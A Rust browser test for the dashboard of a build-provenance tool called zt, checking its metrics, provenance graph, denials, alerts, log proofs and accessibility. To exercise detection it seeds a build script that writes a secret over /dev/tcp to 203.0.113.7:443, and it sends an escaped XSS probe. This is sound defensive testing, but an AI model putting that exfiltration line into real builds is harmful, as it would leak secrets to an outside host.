//! The dashboard `zt serve` serves at `/`, looked at as a person would: in a real headless
//! Chromium (Debian's `chromium` and `chromium-driver`, driven over WebDriver) against a
//! server seeded with a generated history — the bundled example through `zt pipeline run`
//! three times, a run that the policy denies, a drill and an incident. Screenshots of each
//! page land in the test's target directory (`CARGO_TARGET_TMPDIR/dashboard/`). The same
//! pages fetched without a browser (JavaScript off) carry the graph as static SVG.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::common;
#[path = "common/webdriver.rs"]
mod webdriver;

use std::path::{Path, PathBuf};

use common::{Serve, example_repo, git, skip_outside_ci, text, zt};
use serde_json::Value;
use webdriver::Driver;

/// `GET url` with optional headers: status, headers (lower-case names), body.
fn get(url: &str, headers: &[(&str, &str)]) -> (u16, Vec<(String, String)>, String) {
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .max_redirects(0)
        .build()
        .into();
    let mut req = agent.get(url);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let mut reply = req.call().unwrap();
    let status = reply.status().as_u16();
    let hs = reply
        .headers()
        .iter()
        .map(|(k, v)| (k.as_str().to_owned(), v.to_str().unwrap_or("").to_owned()))
        .collect();
    let body = reply.body_mut().read_to_string().unwrap_or_default();
    (status, hs, body)
}

fn header<'a>(hs: &'a [(String, String)], name: &str) -> &'a str {
    hs.iter()
        .find(|(k, _)| k == name)
        .map_or("", |(_, v)| v.as_str())
}

fn run_json(dir: &Path, args: &[&str], code: i32) -> Value {
    let out = zt(dir).args(args).output().unwrap();
    let (stdout, stderr) = text(&out);
    assert_eq!(
        out.status.code(),
        Some(code),
        "zt {args:?}\n{stdout}\n{stderr}"
    );
    serde_json::from_str(&stdout).unwrap_or(Value::Null)
}

fn pct(v: &Value) -> String {
    v.as_f64()
        .map(|x| format!("{:.1} %", x * 100.0))
        .unwrap_or_else(|| "no data".into())
}

fn shots() -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join("dashboard")
}

/// Waits until `cond` holds (the page's script runs after load).
fn until(what: &str, mut cond: impl FnMut() -> bool) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while !cond() {
        assert!(std::time::Instant::now() < deadline, "timed out: {what}");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// What a screen-reader or keyboard user needs on every page: one `main`, a `nav`, a `h1`,
/// a label on every control, an accessible name on every link and picture, and the skip
/// link first in the tab order.
fn assert_accessible(d: &Driver, page: &str) {
    let problems = d.execute(
        "var p = [];\
         if (document.querySelectorAll('main').length !== 1) p.push('main landmarks');\
         if (!document.querySelector('nav[aria-label]')) p.push('no labelled nav');\
         if (document.querySelectorAll('h1').length !== 1) p.push('h1 count');\
         if (!document.documentElement.lang) p.push('no lang');\
         document.querySelectorAll('input:not([type=hidden]), select, textarea').forEach(function (e) {\
           if (!(e.labels && e.labels.length) && !e.getAttribute('aria-label')) p.push('unlabelled ' + (e.id || e.name));\
         });\
         document.querySelectorAll('a').forEach(function (a) {\
           if (!(a.textContent.trim() || a.getAttribute('aria-label'))) p.push('nameless link ' + a.getAttribute('href'));\
         });\
         document.querySelectorAll('svg[role=img]').forEach(function (s) {\
           if (!s.getAttribute('aria-label')) p.push('unlabelled chart');\
         });\
         return p;",
        serde_json::json!([]),
    );
    assert_eq!(problems, serde_json::json!([]), "{page}");
    // The first Tab reaches the skip link.
    d.execute(
        "document.activeElement && document.activeElement.blur()",
        serde_json::json!([]),
    );
    d.send_keys(&d.find("body"), "\u{E004}");
    let first = d.active();
    assert_eq!(d.attr(&first, "class").as_deref(), Some("skip"), "{page}");
}

/// The history: three allowed runs, a denied one (coverage required, none measured), a
/// drill, an incident on the denied commit. Returns the repository, the first run's
/// artifact digest and commit, the denied run's report and commit.
struct History {
    repo: PathBuf,
    artifact: String,
    commit: String,
    denied: Value,
    denied_commit: String,
}

const QUIET: &str = "mkdir -p out2\n/usr/bin/cat build.sh > out2/app\n";
const NOISY: &str = "mkdir -p out2\n/usr/bin/cat build.sh > out2/app\n\
    (echo secret > /dev/tcp/203.0.113.7/443) 2>/dev/null || true\n";

fn seed(dir: &Path) -> History {
    let (repo, first) = example_repo(dir, "example");
    let artifact = first["artifacts"][0][1].as_str().unwrap().to_owned();
    let commit = git(&repo, &["rev-parse", "HEAD"]).trim().to_owned();
    let r = repo.to_str().unwrap();
    for _ in 0..2 {
        let v = run_json(dir, &["pipeline", "run", r, "--json"], 0);
        assert_eq!(v["artifacts"][0][1], artifact.as_str(), "reproducible");
    }
    // A change the policy denies at ci: coverage required, the example measures none.
    let toml = fs_err::read_to_string(repo.join("zt.toml")).unwrap();
    fs_err::write(
        repo.join("zt.toml"),
        toml.replace("min_coverage = 0.0", "min_coverage = 80.0"),
    )
    .unwrap();
    git(&repo, &["commit", "-qam", "require 80% coverage"]);
    let denied_commit = git(&repo, &["rev-parse", "HEAD"]).trim().to_owned();
    let denied = run_json(dir, &["pipeline", "run", r, "--json"], 1);
    let policy = denied["stages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "policy")
        .unwrap()
        .clone();
    assert_eq!(policy["status"], "failed", "{denied:#}");
    // A second pipeline in the repository: ten quiet builds, then one that reaches out to the
    // network (what `zt watch` reports).
    fs_err::write(repo.join("build.sh"), QUIET).unwrap();
    git(&repo, &["add", "build.sh"]);
    git(&repo, &["commit", "-qm", "build script"]);
    for _ in 0..10 {
        run_json(
            &repo,
            &["build", "--json", "--out", "out2", "--", "bash", "build.sh"],
            0,
        );
    }
    fs_err::write(repo.join("build.sh"), NOISY).unwrap();
    git(&repo, &["commit", "-qam", "innocent change"]);
    run_json(
        &repo,
        &["build", "--json", "--out", "out2", "--", "bash", "build.sh"],
        0,
    );
    // A drill run in the repository counts in its figures.
    run_json(&repo, &["drill", "leaked-key", "--json"], 0);
    run_json(
        &repo,
        &["incident", "bad-commit", &denied_commit, "--json"],
        0,
    );
    History {
        repo,
        artifact,
        commit,
        denied: policy,
        denied_commit,
    }
}

#[test]
fn the_dashboard_shows_provenance_figures_denials_and_the_log_in_a_browser() {
    let Some(chromedriver) = webdriver::chromedriver() else {
        skip_outside_ci("chromedriver is not installed (apt `chromium` `chromium-driver`)");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let h = seed(dir.path());
    let token = {
        let out = zt(&h.repo)
            .args([
                "serve", "token", "create", "--role", "read", "--name", "browser",
            ])
            .output()
            .unwrap();
        assert!(out.status.success(), "{:?}", text(&out));
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    };
    let serve = Serve::start(&h.repo, &[], &[]);
    let url = serve.url.clone();
    let bearer = format!("Bearer {token}");
    let auth = [("authorization", bearer.as_str())];

    // A deploy admission review of the artifact: the graph's last column and a table row.
    {
        let review = serde_json::json!({
            "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
            "request": {
                "uid": "5b0c3f1e-2d6a-4c1b-9e0f-7a1d2c3b4e5f", "operation": "CREATE",
                "kind": {"group": "", "version": "v1", "kind": "Pod"},
                "namespace": "shop", "name": "hello",
                "object": {"metadata": {"name": "hello"}, "spec": {"containers": [
                    {"name": "hello", "image": format!("registry.example.com/shop/hello@{}", h.artifact)}
                ]}}
            }
        });
        let mut reply = ureq::post(&format!("{url}/admission/v1"))
            .header("content-type", "application/json")
            .send(review.to_string())
            .unwrap();
        let reply: Value =
            serde_json::from_str(&reply.body_mut().read_to_string().unwrap()).unwrap();
        assert_eq!(
            reply["response"]["uid"], "5b0c3f1e-2d6a-4c1b-9e0f-7a1d2c3b4e5f",
            "{reply}"
        );
    }

    // --- Without a browser (JavaScript off): the pages are whole HTML, the graph is SVG.
    let (status, hs, body) = get(&format!("{url}/"), &[]);
    assert_eq!(status, 401, "{body}");
    assert!(body.contains("<form class=\"login\""), "{body}");
    let (status, hs2, body) = get(&format!("{url}/artifacts/{}", h.artifact), &auth);
    assert_eq!(status, 200, "{body}");
    for hs in [&hs, &hs2] {
        assert!(
            header(hs, "content-security-policy").starts_with("default-src 'self'"),
            "{hs:?}"
        );
        assert_eq!(header(hs, "x-content-type-options"), "nosniff");
    }
    assert_eq!(header(&hs2, "content-type"), "text/html; charset=utf-8");
    assert!(body.contains("<svg id=\"graph\""), "{body}");
    assert!(body.contains("<table class=\"deployments\">"), "{body}");
    assert!(body.contains("<td>Pod shop/hello</td>"), "{body}");
    assert!(
        body.contains(&format!("commit {}", &h.commit[..12])),
        "{body}"
    );
    assert!(body.contains(&format!("href=\"/api/v1/evidence?commit={}\"", h.commit)));
    // No inline script or style anywhere: the CSP would refuse them.
    assert!(
        !body.contains("<script>") && !body.contains("style="),
        "{body}"
    );
    // The script and stylesheet are pinned: their URL and `integrity` name their digest.
    let script = body
        .split("<script defer src=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_owned();
    let integrity = body
        .split("<script defer src=\"")
        .nth(1)
        .unwrap()
        .split("integrity=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_owned();
    let (status, hs, js) = get(&format!("{url}{script}"), &[]);
    assert_eq!(status, 200);
    assert!(header(&hs, "cache-control").contains("immutable"));
    {
        use base64::Engine as _;
        let digest = zt_core::Digest::sha256(js.as_bytes());
        let b64 = base64::engine::general_purpose::STANDARD.encode(hex_bytes(&digest.hex()));
        assert_eq!(integrity, format!("sha256-{b64}"));
    }
    // Every node's link is evidence JSON the same credential reads.
    let (status, _, json) = get(&format!("{url}/api/v1/evidence?commit={}", h.commit), &auth);
    assert_eq!(status, 200, "{json}");
    assert!(
        !serde_json::from_str::<Value>(&json).unwrap()["items"]
            .as_array()
            .unwrap()
            .is_empty()
    );
    // Hostile input is escaped, never markup.
    let (status, _, body) = get(
        &format!("{url}/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        &auth,
    );
    assert_eq!(status, 200);
    assert!(body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!body.contains("<script>alert"));

    // --- In the browser.
    let d = Driver::start(&chromedriver, 1400, 1000);
    d.goto(&format!("{url}/"));
    assert_eq!(d.title(), "Sign in · zt");
    let field = d.find("#token");
    d.send_keys(&field, &token);
    d.click(&d.find("form.login button[type=submit]"));
    until("the overview after signing in", || {
        d.title() == "Overview · zt"
    });

    // The overview's numbers are `zt metrics --json` over the same period.
    let m = run_json(&h.repo, &["metrics", "--json", "--since", "30d"], 0);
    let figure = |id: &str| d.text(&d.find(&format!("[data-metric=\"{id}\"]")));
    for id in [
        "reproducibilityRate",
        "sandboxOverhead",
        "policyPassRate",
        "drillDetectionRate",
    ] {
        assert_eq!(figure(id), pct(&m[id]), "{id}: {m}");
    }
    assert_eq!(figure("builds"), m["builds"].to_string());
    assert_eq!(
        figure("openCriticals"),
        m["openCriticals"].as_array().unwrap().len().to_string()
    );
    assert_eq!(
        figure("waiversNearExpiry"),
        m["waiversNearExpiry"].as_array().unwrap().len().to_string()
    );
    assert_eq!(m["decisions"], 4, "{m}");
    assert_eq!(figure("policyPassRate"), "75.0 %");
    assert_eq!(
        figure("meanTimeToDetectMs"),
        format!("{:.0} ms", m["meanTimeToDetectMs"].as_f64().unwrap())
    );
    let top = d.text(&d.find("ol.rules"));
    assert!(top.contains("tests.coverage"), "{top}");
    assert!(d.find_all("svg.trend").len() >= 6);
    assert_accessible(&d, "overview");
    d.screenshot(&shots().join("overview.png"));

    // Search by commit, then open the artifact: the graph shows the commit it came from.
    let q = d.find("#q");
    d.send_keys(&q, &h.commit);
    d.send_keys(&q, "\u{E007}");
    until("search results", || d.title() == "Artifacts · zt");
    let results = d.find_all("table.results tbody tr");
    assert!(!results.is_empty());
    d.click(&d.find(&format!(
        "a[href=\"/artifacts/{}\"]",
        h.artifact.replace(':', "%3A")
    )));
    until("the artifact page", || {
        d.title().starts_with("Artifact out/hello")
    });
    until("the graph's script ran", || {
        d.attr_of("#graph", "data-enhanced").as_deref() == Some("true")
    });
    assert_accessible(&d, "artifact");
    d.screenshot(&shots().join("artifact.png"));
    let commit_node = d.find(&format!("#graph a[data-node=\"commit-{}\"]", h.commit));
    assert!(
        d.text(&commit_node)
            .contains(&format!("commit {}", &h.commit[..12])),
        "{}",
        d.text(&commit_node)
    );
    assert_eq!(
        d.attr(&commit_node, "href").unwrap(),
        format!("/api/v1/evidence?commit={}", h.commit)
    );
    // Every node is a link to evidence JSON in the API.
    let nodes = d.find_all("#graph a.node");
    assert!(nodes.len() >= 6, "{}", nodes.len());
    for n in &nodes {
        assert!(d.attr(n, "href").unwrap().starts_with("/api/v1/"));
    }
    // Where it was deployed: the admission review, after the decisions.
    let deployed = d.find_all("#graph a.node.deployment");
    assert_eq!(deployed.len(), 1);
    assert!(
        d.text(&deployed[0]).contains("Pod shop/hello"),
        "{}",
        d.text(&deployed[0])
    );
    let log_nodes = d.find_all("#graph a.node.evidence");
    assert!(d.text(&log_nodes[0]).contains("log index"));
    // Keyboard: focusing a node highlights its path; the zoom button changes the view.
    d.execute(
        &format!(
            "document.querySelector('#graph a[data-node=\"commit-{}\"]').focus()",
            h.commit
        ),
        serde_json::json!([]),
    );
    let classes = d.attr(&d.find("#graph"), "class").unwrap();
    assert!(classes.contains("highlighting"), "{classes}");
    let lit = d.find_all("#graph .node.lit");
    assert!(lit.len() >= 3, "{}", lit.len());
    d.screenshot(&shots().join("artifact-highlighted.png"));
    let before = d.attr(&d.find("#graph"), "viewBox").unwrap();
    d.click(&d.find(".graph-controls button[aria-label=\"Zoom in\"]"));
    assert_ne!(d.attr(&d.find("#graph"), "viewBox").unwrap(), before);
    d.screenshot(&shots().join("artifact-zoomed.png"));
    // The evidence link opens the JSON with the session cookie.
    d.goto(&format!("{url}/api/v1/evidence?commit={}", h.commit));
    let json = d.text(&d.find("body"));
    assert!(json.contains("\"items\""), "{json}");

    // Search by file name.
    d.goto(&format!("{url}/search?q=out%2Fhello"));
    let text_ = d.text(&d.find("main"));
    assert!(text_.contains("out/hello"), "{text_}");

    // Denials: the latest deny shows its rule, reason and fix; filtered by rule.
    d.goto(&format!("{url}/denials?rule=tests.coverage"));
    let first = d.find("article.denial");
    let shown = d.text(&first);
    assert!(shown.contains("tests.coverage"), "{shown}");
    let fix = h.denied["remediation"].as_str().unwrap();
    assert!(shown.contains(fix), "{shown}\nfix: {fix}");
    assert!(shown.contains(&h.denied_commit[..12]), "{shown}");
    assert_accessible(&d, "denials");
    d.screenshot(&shots().join("denials.png"));
    d.goto(&format!("{url}/denials?rule=no.such-rule"));
    assert!(d.find_all("article.denial").is_empty());

    // Alerts and incidents: the incident on the denied commit.
    // The server computes the watch's report in the background from its start; until the first
    // one is done the page says so, and a reload shows it.
    until("the alerts table", || {
        d.goto(&format!("{url}/alerts"));
        !d.find_all("table.alerts tbody").is_empty()
    });
    let alert = d.text(&d.find("table.alerts tbody"));
    assert!(alert.contains("network-attempt"), "{alert}");
    assert!(
        alert.contains("203.0.113.7:443") || alert.contains("none of the last 10 builds"),
        "{alert}"
    );
    let incident = d.text(&d.find("article.incident"));
    assert!(incident.contains("bad-commit"), "{incident}");
    assert!(incident.contains(&h.denied_commit), "{incident}");
    assert_accessible(&d, "alerts");
    d.screenshot(&shots().join("alerts.png"));

    // The log: the checkpoint, and an inclusion proof checked from the form.
    d.goto(&format!("{url}/log"));
    let size: u64 = d.text(&d.find("[data-log=\"size\"]")).parse().unwrap();
    assert!(size > 10, "{size}");
    let index = d.find("#index");
    d.send_keys(&index, "3");
    d.click(&d.find("form.proof button[type=submit]"));
    until("the proof result", || {
        !d.text_of("#proof-result").is_empty()
    });
    let result = d.text_of("#proof-result");
    assert!(
        result.starts_with("Valid: entry 3 is in the tree"),
        "{result}"
    );
    assert_accessible(&d, "log");
    d.screenshot(&shots().join("log.png"));
    // An entry that is not the logged one is told apart.
    let entry = d.find("#entry");
    d.send_keys(&entry, "{\"forged\": true}");
    d.click(&d.find("form.proof button[type=submit]"));
    until("the pasted entry's verdict", || {
        d.text_of("main")
            .contains("is NOT the one logged at this index")
    });

    // Signing out drops the session: the pages ask for a token again.
    d.goto(&format!("{url}/"));
    d.execute(
        "var f = document.createElement('form'); f.method = 'post'; f.action = '/logout'; \
         document.body.appendChild(f); f.submit();",
        serde_json::json!([]),
    );
    until("the sign-in page", || d.title() == "Sign in · zt");
    drop(d);
    let out = serve.stop();
    assert!(out.status.success(), "{:?}", text(&out));
}

fn hex_bytes(hex: &str) -> Vec<u8> {
    (0..hex.len() / 2)
        .map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap())
        .collect()
}
